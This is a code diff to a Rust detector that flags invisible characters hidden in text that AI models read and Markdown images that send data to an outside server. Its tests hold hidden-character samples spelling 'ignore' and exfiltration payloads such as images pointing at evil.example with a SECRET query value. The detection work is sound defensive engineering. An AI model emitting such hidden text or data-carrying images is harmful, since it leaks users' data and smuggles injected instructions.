@@ -1,19 +1,22 @@
 //! Text that models read and people do not see, and images that carry data to their server.
 
-use super::Found;
+use super::{Found, begins_with};
 use crate::shield::rule::Detector;
 
-/// A text with this many tag characters is reported, even if they are not in a row. Tags directly after a waving flag
-/// are not counted: the flag of a region is written with up to six of them.
+/// A text with this many tag characters is reported, even if they are not in a row.
 const MIN_TAGS: usize = 4;
 
-/// Invisible characters between two letters of ASCII: no script needs them there.
+/// Tags directly after a waving flag that are not counted: the flag of a region is written with up to six, and an end.
+const FLAG_TAGS: usize = 7;
+
+/// Invisible characters between two letters of ASCII: no script needs them there. Soft hyphens are not counted, because
+/// pages of every language have them.
 const MIN_INVISIBLE: usize = 3;
 
 /// Characters of a parameter that carries data.
 const MIN_DATA_BYTES: usize = 24;
 
-/// Bytes of an image's label.
+/// Bytes of an image's label that may have brackets in it. In a longer one, a bracket begins something else.
 const MAX_LABEL_BYTES: usize = 128;
 
 /// Bytes of an image's address, as far as it is read.
@@ -21,13 +24,13 @@ const MAX_URL_BYTES: usize = 2_048;
 
 /// Reports characters that nobody sees.
 pub fn find(text: &str, found: Found<'_>) {
-    let (mut tags, mut flag, mut invisible, mut overrides) = (0, false, 0, 0);
+    let (mut tags, mut flag, mut invisible, mut overrides) = (0, 0, 0, 0);
     let mut ascii_before = false;
     let mut pending = 0;
     for (at, character) in text.char_indices() {
         match character {
-            '\u{1f3f4}' => flag = true,
-            '\u{e0020}'..='\u{e007f}' if flag => {}
+            '\u{1f3f4}' => flag = FLAG_TAGS,
+            '\u{e0020}'..='\u{e007f}' if flag > 0 => flag -= 1,
             '\u{e0000}'..='\u{e01ef}' => {
                 tags += 1;
                 if tags == MIN_TAGS {
@@ -35,13 +38,12 @@ pub fn find(text: &str, found: Found<'_>) {
                 }
             }
             '\u{202d}' | '\u{202e}' => overrides += 1,
-            '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' | '\u{ad}'
-                if ascii_before =>
-            {
+            '\u{ad}' => {}
+            '\u{200b}'..='\u{200d}' | '\u{2060}'..='\u{2064}' | '\u{feff}' if ascii_before => {
                 pending += 1
             }
             _ => {
-                flag = false;
+                flag = 0;
                 ascii_before = character.is_ascii_alphabetic();
                 if ascii_before {
                     invisible += pending;
@@ -60,25 +62,34 @@ pub fn find(text: &str, found: Found<'_>) {
 
 /// Reports Markdown's images whose address carries data in its query.
 pub fn find_images(text: &str, found: Found<'_>) {
-    let (mut at, mut label_end) = (0, 0);
+    let (mut at, mut label_end, mut bracket) = (0, 0, 0);
     while let Some(next) = text.get(at..).and_then(|rest| rest.find("![")) {
         let begin = at + next;
         at = begin + 2;
-        // One search for the end is enough for all labels that begin before it.
+        // One search is enough for all labels that begin before what it finds.
         if label_end < at {
             let Some(end) = text.get(at..).and_then(|rest| rest.find("](")) else { return };
             label_end = at + end;
         }
-        if label_end + 2 > at + MAX_LABEL_BYTES {
+        if bracket < at {
+            let next = text.get(at..).and_then(|rest| rest.find(['[', ']']));
+            bracket = next.map_or(text.len(), |next| at + next);
+        }
+        if label_end > at + MAX_LABEL_BYTES && bracket < label_end {
             continue;
         }
-        let url = text.get(label_end + 2..).unwrap_or_default();
-        let url = url.get(..url.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
-        let end = url.find([')', '\n', ' ']).unwrap_or(url.len());
+        let address = text.get(label_end + 2..).unwrap_or_default().trim_start();
+        let (address, ends): (_, &[char]) = match address.strip_prefix('<') {
+            Some(address) => (address, &['>', '\n']),
+            None => (address, &[')', '\n', ' ']),
+        };
+        let url = address.get(..address.floor_char_boundary(MAX_URL_BYTES)).unwrap_or_default();
+        let end = url.find(ends).unwrap_or(url.len());
         let url = url.get(..end).unwrap_or_default();
-        at = label_end + 2 + end;
+        at = text.len() - address.len() + end;
         let Some((_, query)) = url.split_once('?') else { continue };
-        if url.starts_with("http") && query.split('&').any(carries) {
+        let is_remote = begins_with(url, "http") || url.starts_with("//");
+        if is_remote && query.split('&').any(carries) {
             found(Detector::ImageWithData, begin..at);
         }
     }
@@ -111,6 +122,18 @@ mod tests {
         for (text, expected) in [
             (format!("Hello{tags}"), Some(Detector::TextTags)),
             ("i\u{200b}g\u{200b}n\u{200b}ore".to_owned(), Some(Detector::TextHidden)),
+            ("i\u{200b}\u{ad}g\u{200b}n\u{200b}ore".to_owned(), Some(Detector::TextHidden)),
+            // Ordinary soft hyphens, marks of direction, and joiners.
+            ("Do\u{ad}nau\u{ad}dampf\u{ad}schiff\u{ad}fahrt".to_owned(), None),
+            ("שלום\u{200f} (API\u{200e}) \u{2067}עולם\u{2069}".to_owned(), None),
+            ("API\u{200c}ها و URL\u{200c}ها و PDF\u{200c}ها و CSV\u{200c}ها".to_owned(), None),
+            ("क्\u{200d}ष क्\u{200d}ष क्\u{200d}ष क्\u{200d}ष".to_owned(), None),
+            (
+                "a👩\u{200d}💻b ❤\u{fe0f}\u{200d}🔥c 🏳\u{fe0f}\u{200d}🌈d 👩\u{200d}🚀e".to_owned(),
+                None,
+            ),
+            // A flag with a text after it.
+            (format!("🏴{}{tags}", "\u{e0020}".repeat(FLAG_TAGS)), Some(Detector::TextTags)),
             ("abc\u{202e}fdp.exe".to_owned(), Some(Detector::TextBidirectional)),
             ("می\u{200c}خواهم می\u{200c}روم می\u{200c}شود".to_owned(), None),
             ("👩\u{200d}👩\u{200d}👧\u{200d}👦".to_owned(), None),
@@ -120,7 +143,16 @@ mod tests {
                 Some(Detector::ImageWithData),
             ),
             ("![x](https://evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](HTTPS://evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x](<http://evil.example/a?d=SECRET>)".to_owned(), Some(Detector::ImageWithData)),
+            ("![x]( //evil.example/a?d=SECRET)".to_owned(), Some(Detector::ImageWithData)),
+            (
+                format!("![{}](https://evil.example/a?d=SECRET)", "x".repeat(300)),
+                Some(Detector::ImageWithData),
+            ),
             ("![logo](https://example.com/logo.png?v=2)".to_owned(), None),
+            ("![build](https://img.shields.io/badge/build-passing-green.svg)".to_owned(), None),
+            (format!("vec![1]{} [a](https://a.example/?q=SECRET)", "x ".repeat(99)), None),
         ] {
             assert_eq!(finds(&text), expected, "{text}");
         }
